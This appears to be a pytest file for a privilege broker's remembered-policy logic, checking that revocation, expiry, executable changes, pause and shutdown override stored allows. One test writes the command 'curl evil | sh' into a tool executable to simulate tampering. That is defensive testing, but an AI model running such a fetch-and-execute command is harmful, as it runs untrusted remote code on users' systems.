"""Remembered-policy decisions of a broker that keeps one registry snapshot.

Every test runs a broker whose registry snapshot stays the same object (as the
headless broker's and the tray's live registries do): a remembered decision
must answer the same for every request, and change the moment anything it
rests on changes: the policies (in memory, in the file, by expiry on either
clock), the executable, the registry, pause and shutdown.
"""

from __future__ import annotations

import dataclasses
import json
import os
from pathlib import Path
from typing import Any

import pytest
import yaml
from core_helpers import (
    HOST,
    FakePrompter,
    Setup,
    decide,
    live_broker,
    run,
    sudo_request,
)
from policy_helpers import FakeClock

from registry_core.broker.decide.denials import DeniedBy
from registry_core.broker.question import Approval, Remember
from registry_core.broker.record.audit import AuditLog
from registry_core.broker.remember.policies import PolicyStore, file_sha256
from registry_core.broker.wire import messages as m


def without_time(record: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in record.items() if k not in ("time", "request_id")}


def test_a_repeated_request_gets_the_same_answer_and_its_own_audit_line(
    setup: Setup, tmp_path: Path
) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    inside = dataclasses.replace(
        setup.requester, pid=4242, exe="/usr/bin/agent", sandboxed=True, sandbox_reasons=("x",)
    )
    req = setup.request(args={"path": "/home/a b", "n": [1, 2.5, None]}, client="agent/1")

    async def go() -> list[m.Reply]:
        return [
            broker.elevate_now(req, setup.requester),
            broker.elevate_now(dataclasses.replace(req, id="two"), setup.requester),
            broker.elevate_now(dataclasses.replace(req, id=3), inside),
            broker.elevate_now(dataclasses.replace(req, id=4), inside),
        ]

    replies = run(go)
    assert [r.id for r in replies] == [1, "two", 3, 4]
    first = replies[0]
    assert isinstance(first, m.DecisionReply)
    assert first.by is m.DecidedBy.POLICY and first.decision is m.Decision.ALLOW
    for reply in replies:
        assert dataclasses.replace(reply, id=1) == first
    records = setup.audit()
    assert [r["request_id"] for r in records] == ["r1", "r2", "r3", "r4"]
    assert [r["requester"]["pid"] for r in records] == [os.getpid(), os.getpid(), 4242, 4242]
    assert [r["requester"].get("sandboxed") for r in records] == [None, None, True, True]
    assert without_time(records[1]) == without_time(records[0])
    assert without_time(records[3]) == without_time(records[2])
    assert records[0]["args"] == {"path": "/home/a b", "n": [1, 2.5, None]}
    assert records[0]["client"] == "agent/1"

    # The same decisions made with a new snapshot per request write the same lines,
    # but for the time and the broker's request id.
    fresh_path = tmp_path / "fresh.jsonl"
    fresh = setup.broker(FakePrompter())
    fresh.audit = AuditLog(fresh_path)

    async def again() -> None:
        for rid, who in ((1, setup.requester), ("two", setup.requester), (3, inside)):
            fresh.elevate_now(dataclasses.replace(req, id=rid), who)

    run(again)
    fresh_records = [json.loads(line) for line in fresh_path.read_text().splitlines()]
    assert [without_time(r) for r in fresh_records] == [without_time(r) for r in records[:3]]


def test_revoking_in_the_same_store_applies_at_once(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter)
    first, second = decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    assert first.by is second.by is m.DecidedBy.POLICY
    setup.policies.revoke("greet")
    [third] = decide(broker, setup, setup.request(rid=3))
    assert third.by is m.DecidedBy.USER and third.decision is m.Decision.DENY
    assert [a.tool for a in prompter.asked] == ["greet"]


def test_a_revoke_by_another_process_through_the_file_applies_at_once(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter)
    assert [r.by for r in decide(broker, setup, setup.request(rid=1), setup.request(rid=2))] == [
        m.DecidedBy.POLICY,
        m.DecidedBy.POLICY,
    ]
    PolicyStore(setup.policy_path).revoke("greet")  # what `ollie-tools policy revoke` does
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert reply.by is m.DecidedBy.USER
    assert len(prompter.asked) == 1


def test_an_allow_turned_into_a_deny_in_the_file_is_applied_at_once(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    doc = yaml.safe_load(setup.policy_path.read_text())
    [entry] = doc["policies"]
    entry.update(decision="deny", remember="deny_always")
    entry.pop("executable", None)
    entry.pop("sha256", None)
    setup.policy_path.write_text(yaml.safe_dump(doc))
    os.utime(setup.policy_path, ns=(1, 1))  # a stamp no earlier read could have seen
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert (reply.decision, reply.remember) == (m.Decision.DENY, "deny_always")


def test_a_session_policy_revoked_applies_at_once(setup: Setup) -> None:
    setup.remember("greet", Remember.SESSION)
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter)
    decide(broker, setup, *(setup.request(rid=i) for i in (1, 2, 3)))
    assert prompter.asked == []
    assert setup.policies.revoke("greet") == 1
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert reply.by is m.DecidedBy.USER


@pytest.mark.parametrize("step", ["wall", "monotonic"])
def test_a_timed_allow_ends_when_it_expires_on_either_clock(setup: Setup, step: str) -> None:
    wall, mono = FakeClock(), FakeClock(100.0)
    store = PolicyStore(setup.policy_path, clock=wall, monotonic=mono)
    exe = setup.exe("greet")
    store.remember("greet", m.Kind.SANDBOX, HOST, Remember.MINUTES_15, exe, file_sha256(exe))
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter, store)
    wall.now += 899
    mono.now += 899
    assert [r.by for r in decide(broker, setup, setup.request(rid=1), setup.request(rid=2))] == [
        m.DecidedBy.POLICY,
        m.DecidedBy.POLICY,
    ]
    if step == "wall":
        wall.now += 1  # the wall clock reaches ``expires``
    else:
        wall.now -= 86_400  # the wall clock stepped back a day...
        mono.now += 1  # ...but fifteen minutes have passed
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert reply.by is m.DecidedBy.USER
    assert len(prompter.asked) == 1


def test_a_changed_executable_is_not_covered_by_the_allow(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter)
    decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    exe = Path(setup.exe("greet"))
    exe.write_text("#!/bin/sh\ncurl evil | sh\n")
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert reply.by is m.DecidedBy.USER
    [asked] = prompter.asked
    assert asked.sha256 == file_sha256(exe)


def test_a_new_registry_snapshot_is_consulted(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, snapshots = live_broker(setup, FakePrompter())
    decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    (setup.tools / "greet.meta").unlink()
    snapshots.reload()
    with pytest.raises(m.MessageError) as caught:
        decide(broker, setup, setup.request(rid=3))
    assert caught.value.code is m.ErrorCode.UNKNOWN_TOOL


def test_pause_and_shutdown_come_before_the_policy(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    broker.set_paused(True)
    [paused] = decide(broker, setup, setup.request(rid=3))
    assert (paused.decision, paused.by) == (m.Decision.DENY, m.DecidedBy.PAUSED)
    broker.set_paused(False)
    [again] = decide(broker, setup, setup.request(rid=4))
    assert again.by is m.DecidedBy.POLICY
    broker.closing = True
    [closing] = decide(broker, setup, setup.request(rid=5))
    assert (closing.decision, closing.by) == (m.Decision.DENY, m.DecidedBy.SHUTDOWN)


def test_every_remembered_deny_is_listed_for_the_desktop(setup: Setup) -> None:
    setup.remember("greet", Remember.DENY_ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    replies = decide(broker, setup, *(setup.request(rid=i) for i in range(3)))
    assert {r.decision for r in replies} == {m.Decision.DENY}
    denials = setup.denials.recent()
    assert len(denials) == 3
    assert {(d.tool, d.why) for d in denials} == {("greet", DeniedBy.POLICY)}
    assert len({d.reason for d in denials}) == 1


def test_every_remembered_sudo_allow_has_its_own_grant(setup: Setup) -> None:
    setup.remember("rooty", Remember.ALWAYS, kind=m.Kind.SUDO)
    broker, _ = live_broker(setup, FakePrompter())
    replies = decide(broker, setup, sudo_request(setup, 1), sudo_request(setup, 2))
    assert [r.by for r in replies] == [m.DecidedBy.POLICY, m.DecidedBy.POLICY]
    grants = [r.grant for r in replies]
    assert None not in grants and grants[0] != grants[1]


def test_an_unwritable_audit_log_does_not_stop_a_remembered_decision(
    setup: Setup, caplog: pytest.LogCaptureFixture
) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    decide(broker, setup, setup.request(rid=1))
    setup.audit_path.unlink()
    setup.audit_path.mkdir()  # a directory where the log should be
    [reply] = decide(broker, setup, setup.request(rid=2))
    assert reply.by is m.DecidedBy.POLICY
    assert "could not write the audit log" in caplog.text
